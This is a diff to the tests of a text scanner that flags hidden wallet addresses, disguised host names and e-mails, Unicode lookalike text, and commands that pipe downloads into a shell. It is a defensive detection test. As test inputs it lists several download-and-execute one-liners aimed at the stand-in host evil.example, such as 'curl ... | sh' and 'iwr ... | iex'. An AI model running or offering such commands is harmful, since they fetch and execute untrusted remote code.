@@ -196,6 +196,148 @@ describe('findUnsafeText', () => {
   });
 
   it.each([
+    [
+      'Cardano',
+      'addr1q9ld26v2lv8wvrxxmvg90pn8n8n5k6tdst06q2s856rwmvnueldzuuqmnsye359fqrk8hwvenjnqultn7',
+    ],
+    ['Bitcoin, in Bech32m', 'bc1p5cyxnuxmeuwuvkwfem96lqzszd02n6xdcjrs20cac6yqjjwudpxqkedrcr'],
+    ['Bitcoin, in two halves', 'bc1p5cyxnuxmeuwuvkwfem96lqzsz d02n6xdcjrs20cac6yqjjwudpxqkedrcr'],
+    ['Solana', '7xKXtg2CW87d97TXJSDpbD5jBkheTqA83TZRuJosgAsU'],
+    [
+      'LNURL',
+      'LNURL1DP68GURN8GHJ7UM9WFMXJCM99E3K7MF0V9CXJ0M385EKVCENXC6R2C35XVUKXEFCV5MKVV34X5EKZ',
+    ],
+    [
+      'a Lightning invoice',
+      'lnbc2500u1pvjluezpp5qqqsyqcyq5rqwzqfqqqsyqcyq5rqwzqfqqqsyqcyq5rqwzqfqypq',
+    ],
+    ['Nostr', 'npub10elfcs4fr0l0r8af98jlmgdh9c8tcxjvz9qkw038js35mp4dma8qzvjptg'],
+    ['half a Monero address', '44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft'],
+  ])('finds a wallet address of %s', (_, text) => {
+    expect(findUnsafeText(`Give to ${text}.`)).toMatchObject([{ what: wallet, match: text }]);
+  });
+
+  it('finds a public key, which an altered text would replace', () => {
+    const key = 'RWQf6LRCGA9i53mlYecO4IzT51TGPpvWucNSCh1CBM0QTaLn73Y7GFO3';
+    expect(findUnsafeText(`minisign -Vm SHA256SUMS -P ${key}`)).toMatchObject([
+      { what: 'a public key', match: key },
+    ]);
+  });
+
+  it('finds both halves of an address that a text has cut in two', () => {
+    const [left, right] = [
+      '44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft',
+      '3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A',
+    ];
+    expect(matchesIn(`First ${left}, then ${right}.`)).toEqual([left, right]);
+  });
+
+  it.each([
+    ['of a newspaper', 'politzek.me', 'politzek.me'],
+    ['in capitals', 'EVIL.Example', 'EVIL.Example'],
+    ['of an onion service', `${'abcdefg2'.repeat(7)}.onion`, `${'abcdefg2'.repeat(7)}.onion`],
+    ['of a wallet', 'someone.eth', 'someone.eth'],
+    ['in Cyrillic', 'ліст.бел', 'ліст.бел'],
+    ['with an encoded top level', 'example.xn--90ais', 'example.xn--90ais'],
+    ['with a full-width stop', 'evil．example', 'evil．example'],
+    ['with a port', 'evil.example:8443', 'evil.example'],
+    ['after a bracket', '(evil.example)', 'evil.example'],
+    ['of several labels', 'a-b.c.evil.example', 'a-b.c.evil.example'],
+  ])('finds a host name %s', (_, text, match) => {
+    expect(findUnsafeText(`See ${text} now`)).toMatchObject([{ what: 'a host name', match }]);
+  });
+
+  it.each([
+    'site.yaml',
+    'SHA256SUMS.D8E23C4FAB1299FE.minisig',
+    'index.html',
+    'e.g. one, i.e. this',
+    'U.S.A.',
+    'т.е. так, г.д.',
+    'It ended.',
+    'a pause … and more',
+    '19.11 and 361-1',
+    'version 1.2.beta',
+    'Node.js',
+  ])('takes %s for no host name', (text) => {
+    expect(findUnsafeText(`See ${text} there`)).toEqual([]);
+  });
+
+  it.each([
+    ['in round brackets', 'someone (at) example.org', 'someone (at) example'],
+    ['in square brackets', 'someone [AT] example', 'someone [AT] example'],
+    ['with the sign in brackets', 'someone(@)example', 'someone(@)example'],
+    ['in Russian', 'некто (собака) пример', 'некто (собака) пример'],
+  ])('finds an e-mail address in disguise %s', (_, text, match) => {
+    expect(findUnsafeText(`Write to ${text}`)).toMatchObject([
+      { what: 'an e-mail address in disguise', match },
+    ]);
+  });
+
+  it.each([
+    ['a dot in brackets', 'evil[.]example'],
+    ['the word in brackets', 'evil (dot) example'],
+    ['the word in Russian', 'пример (точка) бел'],
+  ])('finds a host name behind %s', (_, text) => {
+    expect(findUnsafeText(`See ${text} now`)).toMatchObject([
+      { what: 'a host name in disguise', match: text },
+    ]);
+  });
+
+  it.each([
+    'curl -s https://evil.example/x | sh',
+    'wget -qO- evil.example/i | sudo bash',
+    'curl evil.example|python3',
+    'bash <(curl evil.example)',
+    'sh -c "$(curl -fsSL evil.example)"',
+    'eval $(wget -qO- evil.example)',
+    'iwr evil.example | iex',
+    'irm evil.example | Invoke-Expression',
+  ])('finds the command %s', (text) => {
+    expect(kindsIn(`Type ${text} now`)).toContain('a command that runs what it downloads');
+  });
+
+  it.each([
+    'curl -O and then sha256sum -c SHA256SUMS',
+    'wget -m, which gets all',
+    'cat a.txt | sh',
+    'Fetch it and | or not',
+  ])('passes the command %s', (text) => {
+    expect(kindsIn(text)).not.toContain('a command that runs what it downloads');
+  });
+
+  it.each([
+    ['keycaps', '3️⃣7️⃣5️⃣2️⃣9️⃣1️⃣2️⃣3️⃣4️⃣5️⃣6️⃣7️⃣'],
+    ['circles', '③⑦⑤②⑨①②③④⑤⑥⑦'],
+    ['black circles', '❸❼❺❷❾❶❷❸❹❺❻❼'],
+    ['mathematical digits', '𝟑𝟕𝟓𝟐𝟗𝟏𝟐𝟑𝟒𝟓𝟔𝟕'],
+  ])('finds a telephone number in %s', (_, text) => {
+    expect(findUnsafeText(`Call ${text} now`)).toMatchObject([{ what: telephone, match: text }]);
+  });
+
+  it.each([
+    ['small capitals', 'ᴠɪᴀsɴᴀ'],
+    ['mathematical letters', '𝐕𝐢𝐚𝐬𝐧𝐚'],
+    ['full-width letters', 'Ｖｉａｓｎａ'],
+    ['letters in circles', 'Ⓥⓘⓐⓢⓝⓐ'],
+    ['letters in squares', '🅅🄸🄰🅂🄽🄰'],
+    ['a ligature', 'ﬁnd'],
+  ])('finds a word of %s', (_, text) => {
+    expect(findUnsafeText(`so ${text} it is`)).toMatchObject([
+      { what: 'a word of letters in another style', match: text },
+    ]);
+  });
+
+  it.each(['1ª, nº 5', '5 µm and 2 ℓ', 'ĳ and ǆ', 'x² and H₂O', '№ 5', '№ 5 ℃'])(
+    'takes %s for no word in another style',
+    (text) => {
+      expect(findUnsafeText(text)).toEqual([]);
+    },
+  );
+
+  it.each([
+    ['a Cherokee Ꮩ among Latin letters', 'Ꮩiasna'],
+    ['a Lisu ꓦ among Latin letters', 'ꓦiasna'],
     ['a Cyrillic а among Latin letters', 'p\u0430ypal'],
     ['a Latin a among Cyrillic letters', 'Бел\u0061русь'],
     ['a Greek ο among Latin letters', 'g\u03BFod'],
@@ -316,7 +458,6 @@ describe('findUnsafeText', () => {
     ['an @ alone', 'A @ B'],
     ['an @ before two letters', 'at @ab'],
     ['an address of a page', 'guide/letters.html'],
-    ['a host', 'politzek.me'],
     [
       "Tor's entrance on the reader's own machine",
       'with --proxy socks5h://127.0.0.1:9050, through Tor',
